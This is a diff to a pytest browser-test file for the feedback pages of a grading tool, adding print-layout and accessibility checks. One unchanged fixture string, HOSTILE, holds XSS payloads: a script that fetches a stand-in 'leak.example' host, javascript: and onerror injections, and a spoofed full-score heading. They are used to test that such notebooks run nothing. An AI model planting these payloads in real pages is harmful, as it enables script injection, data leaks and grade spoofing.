@@ -12,7 +12,7 @@ import nbformat
 import pytest
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
 
-from tests.browser import CONTRAST
+from tests.browser import CONTRAST, print_problems
 from tests.conftest import BIN, SHORT, hand_in
 from viva.pages.hidden import Hidden, Veil, hidden_of
 
@@ -30,7 +30,7 @@ HOSTILE = """<script>fetch('https://leak.example/1'); document.title = 'taken'</
 <h1 id="score">Score: 25 of 25</h1>
 $\\href{javascript:document.title='taken'}{x}$ $\\text{<img src=x onerror=document.title='taken'>}$
 """
-WIDTHS = {390: 844, 1280: 900}
+WIDTHS = {375: 812, 1280: 900}
 
 
 @pytest.fixture(scope="module")
@@ -93,9 +93,16 @@ def test_every_text_has_contrast_enough(course, browser, scheme):
     seen = [*course.glob("feedback/demo-0[12]/*/*.html"), *course.glob("feedback/mallory/*/*.html")]
     assert len(seen) > 5
     for path in seen:
-        page, _ = look(browser, path, 390, scheme)
+        page, _ = look(browser, path, 375, scheme)
         page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
         assert page.evaluate(CONTRAST) == [], path
+        page.context.close()
+
+
+def test_on_paper_every_page_is_light_unfolded_and_not_cut_off(course, browser):
+    for path in [*course.glob("feedback/demo-0[12]/*/*.html"), *course.glob("feedback/mallory/*/*.html")]:
+        page, _ = look(browser, path, 1280, "dark")
+        assert print_problems(page) == [], path
         page.context.close()
 
 
@@ -114,7 +121,7 @@ def test_a_hostile_notebook_runs_nothing_and_stays_in_its_cells(course, browser)
 
 
 def test_a_reader_with_a_keyboard_or_without_eyes_finds_the_way(course, browser):
-    page, _ = look(browser, next(pages(course)), 390)
+    page, _ = look(browser, next(pages(course)), 375)
     page.keyboard.press("Tab")
     assert page.evaluate("document.activeElement.className") == "skip"
     page.keyboard.press("Enter")
@@ -124,6 +131,7 @@ def test_a_reader_with_a_keyboard_or_without_eyes_finds_the_way(course, browser)
         assert page.locator(landmark).count() == 1
     assert page.locator("img:not([alt]), img[alt='']").count() == 0
     assert page.locator("table:not(:has(th))").count() == 0
+    assert page.locator("th:empty, summary a").count() == 0
     ids = page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)")
     assert len(ids) == len(set(ids))
     broken = "[...document.querySelectorAll('a[href^=\"#\"]')].filter(a => !document.getElementById(a.hash.slice(1)))"
